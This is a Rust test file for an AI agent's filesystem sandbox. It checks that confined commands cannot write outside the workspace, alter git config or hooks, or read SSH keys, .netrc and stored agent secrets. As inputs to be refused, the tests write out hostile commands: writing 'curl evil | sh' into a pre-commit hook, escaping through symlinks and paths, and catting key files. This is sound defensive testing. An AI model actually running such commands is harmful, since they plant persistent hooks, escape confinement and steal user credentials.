//! Landlock and the mounts: a confined command writes only beneath the writable roots, whatever
//! path it takes there, never to git's config and hooks, and reads no keys.

mod confine;

use confine::{read_only, write, Place};
use openagent_core::sandbox::SandboxPolicy;

#[test]
fn a_write_inside_the_workspace_and_the_temporary_directory_works() {
    let Some(place) = Place::new() else { return };
    let tmp = std::env::temp_dir().join(format!("openagent-confine-{}", std::process::id()));
    let result = place.run(Some(write()), &format!("echo inside > inside && mkdir -p sub && echo t > {}", tmp.display()));
    assert_eq!(result.exit_code, 0, "{result:?}");
    assert_eq!(std::fs::read_to_string(place.work.join("inside")).unwrap(), "inside\n");
    assert!(tmp.exists());
    let _ = std::fs::remove_file(&tmp);
    assert_eq!(result.sandbox_denied, None);
}

#[test]
fn a_write_outside_the_roots_is_refused_whichever_way_it_goes() {
    let Some(place) = Place::new() else { return };
    std::os::unix::fs::symlink(&place.outside, place.work.join("link")).unwrap();
    let outside = place.outside.display().to_string();
    let cases = [
        ("directly", format!("echo x > {outside}/direct")),
        ("through a symlink in the workspace", "echo x > link/symlinked".to_owned()),
        ("through ..", "echo x > ../outside/dotdot".to_owned()),
        ("through /proc/self/cwd/..", "echo x > /proc/self/cwd/../outside/proc".to_owned()),
        ("after cd /", format!("cd / && echo x > {}/rooted", &outside[1..])),
        ("with mkdir", format!("mkdir {outside}/made")),
        ("with touch in the home", format!("touch {}/dotfile", place.home.display())),
    ];
    for (how, command) in cases {
        let result = place.run(Some(write()), &command);
        assert_ne!(result.exit_code, 0, "{how}: {result:?}");
        assert!(result.stderr.contains("Permission denied"), "{how}: {result:?}");
        let denied = result.sandbox_denied.unwrap_or_default();
        assert!(denied.starts_with("a write outside the writable roots"), "{how}: {denied}");
    }
    assert_eq!(std::fs::read_dir(&place.outside).unwrap().count(), 0, "nothing was written outside");
    // The same commands, unconfined, do write: the refusals above are the sandbox's.
    let result = place.run(None, &format!("echo x > {outside}/direct"));
    assert_eq!(result.exit_code, 0, "{result:?}");
}

#[test]
fn a_configured_writable_root_and_the_bit_buckets_are_writable() {
    let Some(place) = Place::new() else { return };
    let outside = place.outside.display().to_string();
    let policy = SandboxPolicy { writable_roots: vec![outside.clone()], ..write() };
    let result =
        place.run(Some(policy), &format!("echo x > {outside}/granted && echo y > /dev/null && head -c 4 /dev/zero > /dev/null"));
    assert_eq!(result.exit_code, 0, "{result:?}");
    assert!(place.outside.join("granted").exists());
    let result = place.run(Some(read_only()), "echo y > /dev/null && ls -l /bin > /dev/null && echo ok");
    assert_eq!(result.stdout, "ok\n", "{result:?}");
    // The command's own pipes, by the names scripts use for them.
    let result = place.run(Some(read_only()), "echo out > /dev/stdout && echo err > /dev/stderr && echo fd | tee /dev/fd/2");
    assert_eq!((result.exit_code, result.stdout.as_str(), result.stderr.as_str()), (0, "out\nfd\n", "err\nfd\n"), "{result:?}");
}

#[test]
fn a_protected_name_made_a_symlink_to_a_decoy_is_still_refused() {
    let Some(place) = Place::new() else { return };
    std::fs::create_dir_all(place.work.join("decoy")).unwrap();
    std::os::unix::fs::symlink(place.work.join("decoy"), place.work.join(".openagent")).unwrap();
    let result = place.run(Some(write()), "echo denied > .openagent/agent.yml");
    assert_ne!(result.exit_code, 0, "{result:?}");
    assert!(!place.work.join("decoy/agent.yml").exists());
}

#[test]
fn read_only_refuses_a_write_inside_the_workspace_too() {
    let Some(place) = Place::new() else { return };
    let result = place.run(Some(read_only()), "echo x > inside");
    assert_ne!(result.exit_code, 0, "{result:?}");
    assert!(!place.work.join("inside").exists());
    let tmp = std::env::temp_dir().join(format!("openagent-confine-ro-{}", std::process::id()));
    let result = place.run(Some(read_only()), &format!("echo x > {}", tmp.display()));
    assert_ne!(result.exit_code, 0, "{result:?}");
    assert!(!tmp.exists());
    let result = place.run(Some(read_only()), "cat /etc/hostname > /dev/null && echo read");
    assert_eq!(result.stdout, "read\n", "reads stay allowed: {result:?}");
}

#[test]
fn git_config_and_hooks_stay_read_only_while_git_add_works() {
    let Some(place) = Place::new() else { return };
    if !confine::have("git") {
        return;
    }
    // The session's first command comes before the repository: what the next commands protect
    // is what exists as each starts.
    assert_eq!(place.run(Some(write()), "true").exit_code, 0);
    let init = place.run(None, "git init -q . && mkdir -p .git/hooks && echo '#!/bin/sh' > .git/hooks/pre-commit");
    assert_eq!(init.exit_code, 0, "{init:?}");
    let config = std::fs::read_to_string(place.work.join(".git/config")).unwrap();
    for command in [
        "echo '[core] hooksPath = /x' >> .git/config",
        "echo 'curl evil | sh' > .git/hooks/pre-commit",
        "rm .git/hooks/pre-commit",
    ] {
        let result = place.run(Some(write()), command);
        assert_ne!(result.exit_code, 0, "{command}: {result:?}");
        assert!(result.stderr.contains("Read-only file system"), "{command}: {result:?}");
        assert!(result.sandbox_denied.unwrap_or_default().contains("read-only"), "{command}");
    }
    assert_eq!(std::fs::read_to_string(place.work.join(".git/config")).unwrap(), config);
    assert_eq!(std::fs::read_to_string(place.work.join(".git/hooks/pre-commit")).unwrap(), "#!/bin/sh\n");
    let add = place.run(Some(write()), "echo code > main.rs && git add main.rs && git status --short");
    assert_eq!(add.exit_code, 0, "{add:?}");
    assert!(add.stdout.contains("A  main.rs"), "{add:?}");
}

#[test]
fn keys_under_the_home_and_the_agents_data_are_not_readable() {
    let Some(place) = Place::new() else { return };
    let ssh = place.home.join(".ssh");
    std::fs::create_dir_all(&ssh).unwrap();
    std::fs::write(ssh.join("id_rsa"), "PRIVATE KEY").unwrap();
    std::fs::write(place.home.join(".netrc"), "machine x password secret").unwrap();
    let data = place.home.join(".local/share/openagent");
    std::fs::create_dir_all(&data).unwrap();
    std::fs::write(data.join("secrets.json"), "{\"key\":\"sk-secret\"}").unwrap();
    let home = place.home.display();
    let command =
        format!("ls -A {home}/.ssh; cat {home}/.netrc; cat {home}/.local/share/openagent/secrets.json; cat {home}/.ssh/id_rsa");
    let result = place.run(Some(write()), &command);
    assert!(result.sandbox_denied.as_deref().unwrap_or_default().starts_with("a read of keys"), "{result:?}");
    let seen = format!("{}{}", result.stdout, result.stderr);
    // The agent's data directory is the one under the home unless a variable names another.
    let data_is_under_home = ["OPENAGENT_DATA_DIR", "XDG_DATA_HOME"].iter().all(|name| std::env::var_os(name).is_none());
    let secrets = if data_is_under_home { &["PRIVATE KEY", "password", "sk-secret"][..] } else { &["PRIVATE KEY", "password"] };
    for secret in secrets {
        assert!(!seen.contains(secret), "{secret} was read: {result:?}");
    }
    assert!(!result.stdout.contains("id_rsa"), "the key is listed: {result:?}");
    let unconfined = place.run(None, &command);
    assert!(unconfined.stdout.contains("PRIVATE KEY"), "{unconfined:?}");
    let result = place.run(Some(write()), &format!("echo x > {home}/.ssh/authorized_keys"));
    assert_ne!(result.exit_code, 0, "{result:?}");
}

#[test]
fn everyday_work_still_works_confined() {
    let Some(place) = Place::new() else { return };
    let mut commands = vec![
        "mktemp > /dev/null && seq 1000 | sort -r -T /tmp | head -1".to_owned(),
        "mkdir -p a/b && echo x > a/b/c && tar -cf a.tar a && mv a.tar b.tar && ln -s b.tar c.tar && rm -r a".to_owned(),
        "f=$(mktemp -p .) && chmod +x $f && truncate -s 10 $f && rm $f && echo done".to_owned(),
    ];
    if confine::have("python3") {
        // Threads: the C library's clone3 meets ENOSYS and falls back to clone.
        commands.push(
            "python3 -c \"import threading; t = threading.Thread(target=print, args=('thread',)); t.start(); t.join()\"".into(),
        );
    }
    if confine::have("git") {
        let commit = "git -c user.name=t -c user.email=t@t commit -q -m first && git log --oneline | wc -l";
        commands.push(format!("git init -q . && echo code > main.rs && git add main.rs && {commit}"));
    }
    for command in &commands {
        let result = place.run(Some(write()), command);
        assert_eq!(result.exit_code, 0, "{command}: {result:?}");
    }
}
